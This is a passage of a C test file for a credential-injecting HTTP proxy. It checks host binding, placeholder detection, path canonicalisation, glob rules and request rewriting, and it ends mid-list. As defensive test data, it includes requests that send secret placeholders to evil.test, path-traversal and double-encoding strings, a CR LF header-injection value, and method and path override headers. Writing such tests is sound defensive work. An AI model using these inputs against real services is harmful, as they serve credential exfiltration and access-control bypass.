/* Just-in-time credentials, the pure part (src/lib/cred.c): placeholders,
 * which hosts a secret is bound to, finding placeholders in any case and at
 * the edges of a buffer, canonical paths and request rules, and every
 * verdict of rewriting a request head: header injection, replacement in
 * any header and inside Basic credentials, exfiltration in the request
 * line, a header or Basic credentials, expiry, rules, non-canonical paths,
 * a head that does not fit and a value that would break the head. Last, a
 * long adversarial head must not take long. */
#include "check.h"
#include "cred.h"

#include <stdlib.h>
#include <string.h>
#include <time.h>

/* ---- helpers ---------------------------------------------------------------- */

static const char *show(const char *s) { return check_show(s, 120); }

/* A secret: hosts and rules are lists separated by '|' (NULL: none). */
static struct cred_secret secret(const char *name, const char *hosts, const char *header,
				 const char *format, const char *rules)
{
	struct cred_secret s = { .name = (char *)name, .header = (char *)header,
				 .format = (char *)format };
	char buf[512];
	for (int pass = 0; pass < 2; pass++) {
		const char *l = pass ? rules : hosts;
		if (!l)
			continue;
		snprintf(buf, sizeof buf, "%s", l);
		for (char *save, *t = strtok_r(buf, "|", &save); t; t = strtok_r(NULL, "|", &save))
			al_strlist_add(pass ? &s.rules : &s.hosts, t);
	}
	return s;
}

static void secret_free(struct cred_secret *s)
{
	al_strlist_clear(&s->hosts);
	al_strlist_clear(&s->rules);
}

/* Secret i's placeholder: random bytes 0x10*i + 0..15. */
static struct cred_value value(const struct cred_secret *s, int i, const char *v)
{
	struct cred_value cv = { .s = s, .value = v, .len = strlen(v) };
	uint8_t r[16];
	for (int k = 0; k < 16; k++)
		r[k] = (uint8_t)(0x10 * i + k);
	cred_placeholder(r, cv.placeholder);
	return cv;
}

static char out[1 << 16];
static struct cred_outcome oc;

/* tmpl with "@0" .. "@3" replaced by the placeholders of v[0..3), and
 * "@B0" .. by the base64 of "git:" + the placeholder. */
static char head_buf[1 << 16];
static const char *expand(const struct cred_set *set, const char *tmpl)
{
	size_t n = 0;
	for (const char *p = tmpl; *p;) {
		if (p[0] == '@' && p[1] >= '0' && p[1] <= '3') {
			memcpy(head_buf + n, set->v[p[1] - '0'].placeholder, CRED_PH_LEN);
			n += CRED_PH_LEN;
			p += 2;
		} else if (p[0] == '@' && p[1] == 'B' && p[2] >= '0' && p[2] <= '3') {
			char cred[128];
			snprintf(cred, sizeof cred, "git:%s", set->v[p[2] - '0'].placeholder);
			n += base64_encode(cred, strlen(cred), head_buf + n);
			p += 3;
		} else {
			head_buf[n++] = *p++;
		}
	}
	head_buf[n] = '\0';
	return head_buf;
}

static ssize_t rewrite(const struct cred_set *set, const char *host, uint16_t port, const char *tmpl)
{
	const char *head = expand(set, tmpl);
	memset(out, 0, sizeof out);
	ssize_t r = cred_rewrite_head(set, host, port, head, strlen(head), out, sizeof out - 1, &oc);
	out[r >= 0 ? r : 0] = '\0';
	return r;
}

static const char *verdict_name(enum cred_verdict v)
{
	switch (v) {
	case CRED_NONE: return "none";
	case CRED_USED: return "used";
	case CRED_EXFIL: return "exfil";
	case CRED_EXPIRED: return "expired";
	case CRED_RULE: return "rule";
	case CRED_NONCANONICAL: return "noncanonical";
	case CRED_ERROR: return "error";
	}
	return "?";
}

/* How often needle occurs in hay. */
static int count(const char *hay, const char *needle)
{
	int n = 0;
	for (const char *p = hay; (p = strstr(p, needle)); p++)
		n++;
	return n;
}

static bool reason_clean(void)
{
	size_t n = strnlen(oc.reason, sizeof oc.reason);
	if (n == sizeof oc.reason)
		return false;
	for (size_t i = 0; i < n; i++)
		if ((unsigned char)oc.reason[i] < 0x20 || (unsigned char)oc.reason[i] == 0x7f)
			return false;
	return true;
}

/* Expect verdict v (and secret index sec) for tmpl towards host:port. */
static void expect(const struct cred_set *set, const char *host, uint16_t port, const char *tmpl,
		   enum cred_verdict v, ssize_t sec, const char *what)
{
	ssize_t r = rewrite(set, host, port, tmpl);
	bool ok = oc.verdict == v && oc.secret == sec && (r >= 0) == (v == CRED_USED || v == CRED_NONE) &&
		  reason_clean();
	for (size_t i = 0; i < set->n; i++)
		ok = ok && (set->v[i].len < 5 || !strstr(oc.reason, set->v[i].value));
	CHECK(ok, "%s: %s, secret %zd (got %s, %zd: %s)", what, verdict_name(v), sec, verdict_name(oc.verdict),
	      oc.secret, show(oc.reason));
}

/* ---- placeholders and hosts ------------------------------------------------- */

static void test_placeholder(void)
{
	uint8_t r[16];
	char ph[CRED_PH_LEN + 1];
	for (int i = 0; i < 16; i++)
		r[i] = (uint8_t)(0xf0 + i);
	memset(ph, 'x', sizeof ph);
	cred_placeholder(r, ph);
	CHECK(strcmp(ph, "AIRLOCK-PLACEHOLDER-f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff") == 0 &&
		      strlen(ph) == CRED_PH_LEN,
	      "placeholder: prefix and lowercase hex (%s)", ph);
}

static void test_hosts(void)
{
	struct cred_secret s = secret("T", "api.example.com:443|*.corp.test:8443|[::1]:443", NULL, NULL, NULL);
	struct {
		const char *host;
		uint16_t port;
		bool want;
	} cases[] = {
		{ "api.example.com", 443, true },
		{ "api.example.com", 80, false },	/* port mismatch */
		{ "api.example.co", 443, false },
		{ "xapi.example.com", 443, false },
		{ "b.api.example.com", 443, false },	/* exact name, no subdomains */
		{ "a.corp.test", 8443, true },
		{ "a.b.corp.test", 8443, true },
		{ "corp.test", 8443, false },		/* never the apex */
		{ ".corp.test", 8443, false },
		{ "xcorp.test", 8443, false },
		{ "a.corp.test", 443, false },
		{ "::1", 443, true },
		{ "::2", 443, false },
		{ "[::1]", 443, false },
		{ "", 443, false },
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
		CHECK(cred_host_matches(&s, cases[i].host, cases[i].port) == cases[i].want, "host %s:%u %s",
		      cases[i].host, cases[i].port, cases[i].want ? "bound" : "not bound");

	struct cred_secret bad = secret("B", "x.test|x.test:|x.test:99999|x.test:44a|x.test:+443|:443", NULL, NULL, NULL);
	CHECK(!cred_host_matches(&bad, "x.test", 443) && !cred_host_matches(&bad, "x.test", 34463) &&
		      !cred_host_matches(&bad, "", 443),
	      "entries without a valid port never match");
	secret_free(&bad);

	struct cred_secret t = secret("U", "api.github.com:443", NULL, NULL, NULL);
	struct cred_value v[2] = { value(&s, 0, "a"), value(&t, 1, "b") };
	struct cred_set set = { v, 2 };
	CHECK(cred_set_binds(&set, "api.github.com", 443) && cred_set_binds(&set, "x.corp.test", 8443) &&
		      !cred_set_binds(&set, "github.com", 443),
	      "cred_set_binds: any secret of the set");
	secret_free(&s);
	secret_free(&t);
}

/* ---- finding ---------------------------------------------------------------- */

static void test_find(void)
{
	struct cred_secret s = secret("A", "a.test:443", NULL, NULL, NULL);
	struct cred_value v[2] = { value(&s, 1, "x"), value(&s, 2, "y") };
	struct cred_set set = { v, 2 };
	char buf[512];
	size_t at = 999;

	CHECK(cred_find(&set, v[0].placeholder, CRED_PH_LEN, &at) == 0 && at == 0,
	      "find: the whole buffer is the placeholder");
	snprintf(buf, sizeof buf, "xx%s", v[1].placeholder);
	CHECK(cred_find(&set, buf, strlen(buf), &at) == 1 && at == 2, "find: at the very end");
	CHECK(cred_find(&set, buf, strlen(buf) - 1, &at) == -1, "find: cut off by one byte: not found");
	CHECK(cred_find(&set, buf + 3, strlen(buf) - 3, &at) == -1, "find: first byte missing: not found");
	CHECK(cred_find(&set, "", 0, &at) == -1 && cred_find(&set, "AIRLOCK-PLACEHOLDER-", 20, &at) == -1,
	      "find: empty and prefix-only buffers");

	snprintf(buf, sizeof buf, "%s", v[0].placeholder);
	for (char *p = buf; *p; p++)
		*p = (char)(*p >= 'a' && *p <= 'z' ? *p - 32 : *p);
	CHECK(cred_find(&set, buf, strlen(buf), &at) == 0 && at == 0, "find: upper case (%s)", buf);
	snprintf(buf, sizeof buf, "aIrLoCk-pLaCeHoLdEr-%s", v[0].placeholder + CRED_PREFIX_LEN);
	CHECK(cred_find(&set, buf, strlen(buf), &at) == 0, "find: mixed case prefix");

	snprintf(buf, sizeof buf, "a %s b %s", v[1].placeholder, v[0].placeholder);
	CHECK(cred_find(&set, buf, strlen(buf), &at) == 1 && at == 2, "find: the first in the buffer");
	snprintf(buf, sizeof buf, "AIRLOCK-PLACEHOLDER-%s", v[0].placeholder);
	CHECK(cred_find(&set, buf, strlen(buf), &at) == 0 && at == 20, "find: prefix repeated before it");
	snprintf(buf, sizeof buf, "%s", v[0].placeholder);
	buf[CRED_PH_LEN - 1] = 'g';
	CHECK(cred_find(&set, buf, strlen(buf), &at) == -1, "find: a non-hex digit");
	CHECK(cred_find(&set, "AIRLOCK-PLACEHOLDER-00000000000000000000000000000000", CRED_PH_LEN, &at) == -1,
	      "find: a well-formed placeholder of no secret");
	secret_free(&s);
}

/* ---- paths and rules -------------------------------------------------------- */

static void test_canonical(void)
{
	const char *good[] = { "/", "/v1/repos/x", "/a/", "/a%20b", "/%41/b", "/a.b/c..d/.e", "/~u/x;y" };
	const char *bad[] = { "", "v1/x", "*", "/v1/../admin", "/v1/%2e%2e/admin", "/v1/.%2E/admin",
			      "//x", "/a//b", "/a\\b", "/a%2Fb", "/a%2fb", "/a%5Cb", "/.", "/./a", "/a/..",
			      "/..;/admin", "/a/.;x/b", "/a\x01", "/a\x7f", "/a%00b", "/a\tb",
			      /* decoded twice, or the IIS way, they would hide a dot */
			      "/%25", "/v1/%252e%252e/admin", "/v1/%u002e%u002e/admin", "/%U002e" };
	for (size_t i = 0; i < sizeof good / sizeof *good; i++)
		CHECK(cred_path_canonical(good[i], strlen(good[i])), "canonical: %s", show(good[i]));
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
		CHECK(!cred_path_canonical(bad[i], strlen(bad[i])), "not canonical: '%s'", show(bad[i]));
	CHECK(!cred_path_canonical("/a\0b", 4), "not canonical: NUL inside");
	CHECK(cred_path_canonical("/a%2", 4) && cred_path_canonical("/a%", 3),
	      "a cut percent escape is no encoded dot or slash");
}

static void rule(const struct cred_secret *s, const char *m, const char *t, bool want)
{
	CHECK(cred_rule_allows(s, m, strlen(m), t, strlen(t)) == want, "rules %s %s %s", want ? "allow" : "refuse",
	      m, show(t));
}

static void test_rules(void)
{
	struct cred_secret none = secret("N", NULL, NULL, NULL, NULL);
	rule(&none, "DELETE", "/anything", true);

	struct cred_secret s = secret("S", NULL, NULL, NULL, "GET /v1/*|* /repos/?/x|POST /upload|BROKEN");
	rule(&s, "GET", "/v1/x", true);
	rule(&s, "GET", "/v1/x/y/z", true); /* '*' crosses '/' */
	rule(&s, "GET", "/v1/", true);
	rule(&s, "GET", "/v1", false);
	rule(&s, "POST", "/v1/x", false);
	rule(&s, "get", "/v1/x", false); /* methods are case-sensitive */
	rule(&s, "PUT", "/repos/a/x", true);
	rule(&s, "PUT", "/repos/ab/x", false);
	rule(&s, "PUT", "/repos///x", true); /* '?' is any one character, '/' too */
	rule(&s, "POST", "/upload", true);
	rule(&s, "POST", "/upload?x=1", true); /* the query is ignored */
	rule(&s, "POST", "/uploads", false);
	rule(&s, "POST", "/upload/", false);
	rule(&s, "BROKEN", "/", false);
	rule(&s, "GET", "/v2/x?/v1/x", false);

	struct cred_secret q = secret("Q", NULL, NULL, NULL, "GET /a*b*c|GET /x?z|GET /lit");
	rule(&q, "GET", "/abc", true);
	rule(&q, "GET", "/aXbYc", true);
	rule(&q, "GET", "/aXbYcZ", false);
	rule(&q, "GET", "/acb", false);
	rule(&q, "GET", "/xyz", true);
	rule(&q, "GET", "/lit?a", true);
	rule(&q, "GET", "/lit#", false);

	/* the classic exponential case of backtracking globs */
	struct cred_secret slow = secret("X", NULL, NULL, NULL, "GET /*a*a*a*a*a*a*a*a*a*a*b");
	static char path[200001];
	path[0] = '/';
	memset(path + 1, 'a', sizeof path - 2);
	path[sizeof path - 1] = '\0';
	clock_t t0 = clock();
	rule(&slow, "GET", path, false);
	double secs = (double)(clock() - t0) / CLOCKS_PER_SEC;
	CHECK(secs < 1.0, "a pathological glob on a 200 kB path takes %.3f s", secs);
	secret_free(&none);
	secret_free(&s);
	secret_free(&q);
	secret_free(&slow);
}

/* ---- base64 ----------------------------------------------------------------- */

static void b64_ok(const char *in, const char *want)
{
	uint8_t buf[128];
	ssize_t n = cred_base64_decode(in, strlen(in), buf);
	CHECK(n == (ssize_t)strlen(want) && memcmp(buf, want, strlen(want)) == 0, "base64 '%s' -> '%s'", in, want);
}

static void test_base64(void)
{
	uint8_t buf[128];
	b64_ok("", "");
	b64_ok("dXNlcjpwYXNz", "user:pass");
	b64_ok("YQ==", "a");
	b64_ok("YWI=", "ab");
	b64_ok("YWJj", "abc");
	b64_ok("Pz8/Pz4+", "\x3f\x3f\x3f\x3f>>");
	const char *bad[] = { "YQ=", "Y===", "YQ=a", "=QQQ", "YQ==YQ==", "dXNl cjpw", "-_-_", "YW=j", "YQ\n=",
			      "Y" };
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
		CHECK(cred_base64_decode(bad[i], strlen(bad[i]), buf) == -1, "base64 refused: '%s'", show(bad[i]));
	for (size_t n = 0; n < 40; n++) {
		uint8_t in[40];
		char enc[64];
		for (size_t i = 0; i < n; i++)
			in[i] = (uint8_t)(i * 37 + n);
		size_t e = base64_encode(in, n, enc);
		if (cred_base64_decode(enc, e, buf) != (ssize_t)n || memcmp(buf, in, n)) {
			CHECK(0, "base64 round trip of %zu bytes", n);
			return;
		}
	}
	CHECK(1, "base64 round trips of 0..39 bytes");
}

/* ---- rewriting -------------------------------------------------------------- */

/* The decoded Basic credentials of out's Authorization header. */
static const char *basic_of_out(void)
{
	static char dec[512];
	const char *p = strstr(out, "Authorization: Basic ");
	if (!p)
		return "";
	p += strlen("Authorization: Basic ");
	size_t n = strcspn(p, "\r");
	ssize_t d = cred_base64_decode(p, n, (uint8_t *)dec);
	dec[d < 0 ? 0 : d] = '\0';
	return dec;
}

static void test_inject(void)
{
	struct cred_secret gh = secret("GH_TOKEN", "api.github.com:443", "Authorization", "Bearer {}", NULL);
	struct cred_value v[1] = { value(&gh, 0, "ghp_realvalue123") };
	struct cred_set set = { v, 1 };
	char want[512];

	ssize_t r = rewrite(&set, "api.github.com", 443,
			    "GET /user HTTP/1.1\r\nAccept: */*\r\nAuthorization: Bearer @0\r\n"
			    "authorization: token old\r\nHost: api.github.com\r\nConnection: close\r\n\r\n");
	snprintf(want, sizeof want,
		 "GET /user HTTP/1.1\r\nAccept: */*\r\nHost: api.github.com\r\nConnection: close\r\n"
		 "Authorization: Bearer ghp_realvalue123\r\n\r\n");
	CHECK(r == (ssize_t)strlen(want) && strcmp(out, want) == 0 && oc.verdict == CRED_USED && oc.secret == 0,
	      "Bearer injection: client's Authorization headers dropped, one added last (got %s)", show(out));
	CHECK(!strstr(oc.reason, "ghp_") && strstr(oc.reason, "GH_TOKEN"), "reason names, never holds: %s",
	      oc.reason);
	CHECK(count(out, "uthorization:") == 1, "exactly one Authorization");

	/* no placeholder in the request: injected all the same */
	r = rewrite(&set, "api.github.com", 443, "GET /user HTTP/1.1\r\nHost: api.github.com\r\n\r\n");
	CHECK(oc.verdict == CRED_USED && strstr(out, "\r\nAuthorization: Bearer ghp_realvalue123\r\n\r\n"),
	      "injected without a placeholder in the request");

	/* format NULL: the bare value */
	gh.format = NULL;
	r = rewrite(&set, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n");
	CHECK(r > 0 && strcmp(out, "GET / HTTP/1.1\r\nAuthorization: ghp_realvalue123\r\n\r\n") == 0,
	      "format NULL is {} (got %s)", show(out));
	gh.format = (char *)"token {} (x)";
	r = rewrite(&set, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n");
	CHECK(r > 0 && strstr(out, "Authorization: token ghp_realvalue123 (x)\r\n"), "text after {} kept");
	gh.format = (char *)"Bearer {}";

	/* an injected secret goes in its own header only: a placeholder the
	 * client puts elsewhere (where a service might store it) stays one */
	r = rewrite(&set, "api.github.com", 443, "GET / HTTP/1.1\r\nUser-Agent: ua-@0\r\nX-Meta: @0\r\n\r\n");
	CHECK(r > 0 && count(out, "ghp_realvalue123") == 1 && count(out, "AIRLOCK-PLACEHOLDER-") == 2 &&
	      strstr(out, "\r\nAuthorization: Bearer ghp_realvalue123\r\n"),
	      "inject: the value in its header only, the placeholder left elsewhere (got %s)", show(out));

	/* to another host: not injected; its placeholder there is exfiltration */
	expect(&set, "api.github.com", 80, "GET / HTTP/1.1\r\n\r\n", CRED_NONE, -1, "port mismatch: nothing put in");
	expect(&set, "api.github.com", 80, "GET / HTTP/1.1\r\nAuthorization: Bearer @0\r\n\r\n", CRED_EXFIL, 0,
	       "port mismatch with the placeholder: exfiltration");
	secret_free(&gh);
}

static void test_replace(void)
{
	struct cred_secret key = secret("API_KEY", "*.example.com:443", NULL, NULL, NULL);
	struct cred_secret pip = secret("PIP_TOKEN", "pypi.example.com:443", NULL, NULL, NULL);
	struct cred_value v[2] = { value(&key, 0, "k-123"), value(&pip, 1, "pypi-AgEIcHlwaS5vcmc") };
	struct cred_set set = { v, 2 };

	ssize_t r = rewrite(&set, "api.example.com", 443,
			    "POST /v1/x?q=@0 HTTP/1.1\r\nX-Api-Key: @0\r\nX-Other: a@0b@0c\r\n\r\n");
	char want[512];
	snprintf(want, sizeof want, "POST /v1/x?q=%s HTTP/1.1\r\nX-Api-Key: k-123\r\nX-Other: ak-123bk-123c\r\n\r\n",
		 v[0].placeholder);
	CHECK(r == (ssize_t)strlen(want) && strcmp(out, want) == 0 && oc.verdict == CRED_USED && oc.secret == 0,
	      "X-Api-Key replaced, every occurrence in values, request line left alone (got %s)", show(out));

	/* case-insensitive placeholder */
	char upper[CRED_PH_LEN + 1];
	for (size_t i = 0; i <= CRED_PH_LEN; i++)
		upper[i] = (char)(v[0].placeholder[i] >= 'a' && v[0].placeholder[i] <= 'z' ? v[0].placeholder[i] - 32 :
											   v[0].placeholder[i]);
	char tmpl[256];
	snprintf(tmpl, sizeof tmpl, "GET / HTTP/1.1\r\nX-Api-Key: %s\r\n\r\n", upper);
	r = rewrite(&set, "api.example.com", 443, tmpl);
	CHECK(oc.verdict == CRED_USED && strstr(out, "X-Api-Key: k-123\r\n"), "upper-case placeholder replaced");

	/* Basic: user:PLACEHOLDER, decoded, replaced, re-encoded */
	r = rewrite(&set, "pypi.example.com", 443, "GET /simple/ HTTP/1.1\r\nAuthorization: Basic @B1\r\n\r\n");
	CHECK(oc.verdict == CRED_USED && oc.secret == 1 && strcmp(basic_of_out(), "git:pypi-AgEIcHlwaS5vcmc") == 0,
	      "Basic user:placeholder replaced (decoded: %s)", show(basic_of_out()));
	r = rewrite(&set, "pypi.example.com", 443, "GET /simple/ HTTP/1.1\r\nauthorization: basic   @B1\r\n\r\n");
	CHECK(oc.verdict == CRED_USED && strstr(out, "authorization: Basic "),
	      "Basic in lower case, several spaces (got %s)", show(out));
	/* a bound placeholder only in the request line: nothing put in */
	expect(&set, "api.example.com", 443, "GET /?k=@0 HTTP/1.1\r\n\r\n", CRED_NONE, -1,
	       "placeholder only in the request line");
	r = rewrite(&set, "api.example.com", 443, "GET /?k=@0 HTTP/1.1\r\n\r\n");
	CHECK(r > 0 && strcmp(out, head_buf) == 0, "NONE: the head copied");
	/* the wildcard never binds the apex */
	expect(&set, "example.com", 443, "GET / HTTP/1.1\r\nX-Api-Key: @0\r\n\r\n", CRED_EXFIL, 0,
	       "wildcard: the apex is not bound");
	/* two secrets used: the first reported */
	expect(&set, "pypi.example.com", 443, "GET / HTTP/1.1\r\nA: @1\r\nB: @0\r\n\r\n", CRED_USED, 0,
	       "two used: the first index");
	secret_free(&key);
	secret_free(&pip);
}

static void test_exfil(void)
{
	struct cred_secret a = secret("A_TOKEN", "api.example.com:443", NULL, NULL, NULL);
	struct cred_secret b = secret("B_TOKEN", "other.test:443", "Authorization", "Bearer {}", NULL);
	struct cred_value v[2] = { value(&a, 0, "aaa-secret"), value(&b, 1, "bbb-secret") };
	struct cred_set set = { v, 2 };

	expect(&set, "evil.test", 443, "GET /steal?t=@0 HTTP/1.1\r\n\r\n", CRED_EXFIL, 0, "exfil in the request line");
	expect(&set, "evil.test", 443, "GET / HTTP/1.1\r\nX-Foo: x@1x\r\n\r\n", CRED_EXFIL, 1, "exfil in a header");
	expect(&set, "evil.test", 443, "GET / HTTP/1.1\r\nX-@1: x\r\n\r\n", CRED_EXFIL, 1, "exfil in a header name");
	expect(&set, "evil.test", 443, "GET / HTTP/1.1\r\nAuthorization: Basic @B0\r\n\r\n", CRED_EXFIL, 0,
	       "exfil inside Basic credentials");
	expect(&set, "api.example.com", 443, "GET / HTTP/1.1\r\nX-A: @0\r\nX-B: @1\r\n\r\n", CRED_EXFIL, 1,
	       "a bound and an unbound placeholder: exfiltration");
	rewrite(&set, "api.example.com", 443, "GET / HTTP/1.1\r\nAuthorization: Basic @B1\r\n\r\n");
	CHECK(oc.verdict == CRED_EXFIL && strstr(oc.reason, "B_TOKEN") && strstr(oc.reason, "api.example.com:443") &&
		      strstr(oc.reason, "exfiltration"),
	      "exfil reason: %s", oc.reason);
	rewrite(&set, "::1", 8443, "GET /@0 HTTP/1.1\r\n\r\n");
	CHECK(oc.verdict == CRED_EXFIL && strstr(oc.reason, "[::1]:8443"), "IPv6 host in brackets: %s", oc.reason);
	/* a placeholder of a bound secret made unbound by an unbound host */
	expect(&set, "evil.test", 443, "GET / HTTP/1.1\r\nAuthorization: Bearer @1\r\n\r\n", CRED_EXFIL, 1,
	       "an injecting secret's placeholder to another host");
	secret_free(&a);
	secret_free(&b);
}

static void test_expiry(void)
{
	struct cred_secret hdr = secret("HDR", "h.test:443", "X-Token", NULL, NULL);
	struct cred_secret rep = secret("REP", "h.test:443", NULL, NULL, NULL);
	struct cred_value v[2] = { value(&hdr, 0, "one"), value(&rep, 1, "two") };
	struct cred_set set = { v, 2 };

	v[0].expired = true;
	expect(&set, "h.test", 443, "GET / HTTP/1.1\r\n\r\n", CRED_EXPIRED, 0, "header form expired: refused");
	CHECK(strcmp(oc.reason, "credential HDR has expired") == 0, "expiry reason: %s", oc.reason);
	expect(&set, "other.test", 443, "GET / HTTP/1.1\r\n\r\n", CRED_NONE, -1, "expired, not bound: nothing");
	v[0].expired = false;
	v[1].expired = true;
	expect(&set, "h.test", 443, "GET / HTTP/1.1\r\n\r\n", CRED_USED, 0, "replace form expired, absent: not refused");
	expect(&set, "h.test", 443, "GET / HTTP/1.1\r\nX-Key: @1\r\n\r\n", CRED_EXPIRED, 1,
	       "replace form expired, present: refused");
	expect(&set, "h.test", 443, "GET /@1 HTTP/1.1\r\n\r\n", CRED_EXPIRED, 1,
	       "replace form expired, in the request line: refused");
	expect(&set, "evil.test", 443, "GET / HTTP/1.1\r\nX-Key: @1\r\n\r\n", CRED_EXFIL, 1,
	       "exfiltration goes before expiry");
	secret_free(&hdr);
	secret_free(&rep);
}

static void test_rules_rewrite(void)
{
	struct cred_secret gh = secret("GH_TOKEN", "api.github.com:443", "Authorization", "Bearer {}",
				       "GET /repos/*|* /user");
	struct cred_value v[1] = { value(&gh, 0, "tok") };
	struct cred_set set = { v, 1 };

	expect(&set, "api.github.com", 443, "GET /repos/a/b HTTP/1.1\r\n\r\n", CRED_USED, 0, "rule allows GET /repos/*");
	expect(&set, "api.github.com", 443, "PATCH /user?x=/repos/ HTTP/1.1\r\n\r\n", CRED_USED, 0,
	       "rule * /user, query ignored");
	expect(&set, "api.github.com", 443, "DELETE /repos/a/b HTTP/1.1\r\n\r\n", CRED_RULE, 0, "method refused");
	CHECK(strcmp(oc.reason, "DELETE /repos/a/b is not allowed for credential GH_TOKEN") == 0, "rule reason: %s",
	      oc.reason);
	expect(&set, "api.github.com", 443, "GET /orgs/x?/repos/ HTTP/1.1\r\n\r\n", CRED_RULE, 0,
	       "a rule is not matched in the query");
	expect(&set, "api.github.com", 443, "GET /repos/a HTTP/1.1\r\nX-HTTP-Method-Override: DELETE\r\n\r\n",
	       CRED_RULE, 0, "a method override header is refused where rules apply");
	expect(&set, "api.github.com", 443, "GET /repos/a HTTP/1.1\r\nx-original-url: /admin\r\n\r\n",
	       CRED_RULE, 0, "... and a path override header");

	const char *noncanon[] = { "/repos/../admin", "/repos/%2e%2e/admin", "/repos/%2E%2e/admin", "//repos/x",
				   "/repos/a\\b", "/repos/a%2Fb", "/repos/a%2fb/../c", "/repos/..;/x" };
	for (size_t i = 0; i < sizeof noncanon / sizeof *noncanon; i++) {
		char tmpl[256];
		snprintf(tmpl, sizeof tmpl, "GET %s HTTP/1.1\r\n\r\n", noncanon[i]);
		expect(&set, "api.github.com", 443, tmpl, CRED_NONCANONICAL, 0, noncanon[i]);
	}
	CHECK(strstr(oc.reason, "is not in canonical form; credential GH_TOKEN's rules need one") != NULL,
	      "non-canonical reason: %s", oc.reason);
	expect(&set, "api.github.com", 443, "GET *.. HTTP/1.1\r\n\r\n", CRED_NONCANONICAL, 0,
	       "not an origin-form path");

	/* an echoed path is cut; reasons never overflow */
	static char tmpl[8192];
	strcpy(tmpl, "POST /");
	memset(tmpl + 6, 'p', 5000);
	strcpy(tmpl + 5006, " HTTP/1.1\r\n\r\n");
	expect(&set, "api.github.com", 443, tmpl, CRED_RULE, 0, "a 5000-byte path refused");
	CHECK(strlen(oc.reason) < sizeof oc.reason && strstr(oc.reason, "...") && strstr(oc.reason, "GH_TOKEN"),
	      "its reason cut: %s", oc.reason);

	/* a bound secret with rules judges every request to its host */
	struct cred_secret rep = secret("REP", "api.github.com:443", NULL, NULL, "GET /only");
	struct cred_value w[1] = { value(&rep, 0, "r") };
	struct cred_set set2 = { w, 1 };
	expect(&set2, "api.github.com", 443, "GET /other HTTP/1.1\r\n\r\n", CRED_RULE, 0,
	       "rules apply even when the placeholder is absent");
	expect(&set2, "api.github.com", 443, "GET /only HTTP/1.1\r\n\r\n", CRED_NONE, -1,
	       "allowed, placeholder absent: nothing put in");
	w[0].expired = true;
	expect(&set2, "api.github.com", 443, "GET /other HTTP/1.1\r\n\r\n", CRED_NONE, -1,
	       "an expired unused secret's rules do not apply");

	/* control characters in a name never reach a reason */
	gh.name = (char *)"BAD\nNAME\x1b[31m";
	rewrite(&set, "api.github.com", 443, "PUT /x HTTP/1.1\r\n\r\n");
	CHECK(oc.verdict == CRED_RULE && reason_clean() && strstr(oc.reason, "BAD?NAME?[31m"), "name cleaned: %s",
	      show(oc.reason));
	gh.name = (char *)"GH_TOKEN";
	secret_free(&gh);
	secret_free(&rep);
}

static void test_errors(void)
{
	struct cred_secret gh = secret("GH", "api.github.com:443", "Authorization", "Bearer {}", NULL);
	struct cred_value v[1] = { value(&gh, 0, "tok") };
	struct cred_set set = { v, 1 };
	const char *head = "GET / HTTP/1.1\r\nHost: api.github.com\r\n\r\n";
	const char *want = "GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer tok\r\n\r\n";
	size_t n = strlen(want);

	ssize_t r = cred_rewrite_head(&set, "api.github.com", 443, head, strlen(head), out, n, &oc);
	CHECK(r == (ssize_t)n && oc.verdict == CRED_USED, "cap exactly the result: fits");
	r = cred_rewrite_head(&set, "api.github.com", 443, head, strlen(head), out, n - 1, &oc);
	CHECK(r == -1 && oc.verdict == CRED_ERROR && oc.secret == -1, "cap one byte short: error (%s)", oc.reason);
	r = cred_rewrite_head(&set, "api.github.com", 443, head, strlen(head), out, 0, &oc);
	CHECK(r == -1 && oc.verdict == CRED_ERROR, "cap 0: error");
	r = cred_rewrite_head(&set, "x.test", 443, head, strlen(head), out, strlen(head) - 1, &oc);
	CHECK(r == -1 && oc.verdict == CRED_ERROR, "NONE copy that does not fit: error");
	r = cred_rewrite_head(&set, "x.test", 443, head, strlen(head), out, strlen(head), &oc);
	CHECK(r == (ssize_t)strlen(head) && oc.verdict == CRED_NONE && memcmp(out, head, (size_t)r) == 0,
	      "NONE copy that fits exactly");

	/* values that would break the head */
	v[0].value = "tok\r\nX-Evil: 1";
	v[0].len = strlen(v[0].value);
	expect(&set, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n", CRED_ERROR, 0, "value with CR LF: error");
	v[0].value = "tok\0x";
	v[0].len = 5;
	expect(&set, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n", CRED_ERROR, 0, "value with NUL: error");
	struct cred_secret rep = secret("REP", "api.github.com:443", NULL, NULL, NULL);
	struct cred_value w[1] = { value(&rep, 0, "a\rb") };
	struct cred_set set2 = { w, 1 };
	expect(&set2, "api.github.com", 443, "GET / HTTP/1.1\r\nAuthorization: Basic @B0\r\n\r\n", CRED_ERROR, 0,
	       "value with CR into Basic: error");
	expect(&set2, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n", CRED_NONE, -1,
	       "value with CR never used: no error");
	v[0].value = "tok";
	v[0].len = 3;
	gh.header = (char *)"Bad Header";
	expect(&set, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n", CRED_ERROR, 0, "header name not a token: error");
	gh.header = (char *)"Authorization";
	gh.format = (char *)"Bearer\r\n{}";
	expect(&set, "api.github.com", 443, "GET / HTTP/1.1\r\n\r\n", CRED_ERROR, 0, "format with CR LF: error");
	gh.format = (char *)"Bearer {}";

	const char *bad[] = {
		"",
		"GET / HTTP/1.1\r\n",				/* no blank line */
		"GET / HTTP/1.1\r\nA: b\r\n",
		"GET / HTTP/1.1\nA: b\n\n",			/* bare LF */
		"GET / HTTP/1.1\r\nA: b\nc\r\n\r\n",
		"GET / HTTP/1.1\r\nA: b\rc\r\n\r\n",		/* bare CR */
		"GET / HTTP/1.1\r\n\r\nbody",			/* bytes after the head */
		"GET / HTTP/1.0\r\n\r\n",
		"GET /  HTTP/1.1\r\n\r\n",
		" / HTTP/1.1\r\n\r\n",
		"GET  HTTP/1.1\r\n\r\n",
		"G(T / HTTP/1.1\r\n\r\n",
		"GET / HTTP/1.1\r\nNoColon\r\n\r\n",
		"GET / HTTP/1.1\r\n: empty name\r\n\r\n",
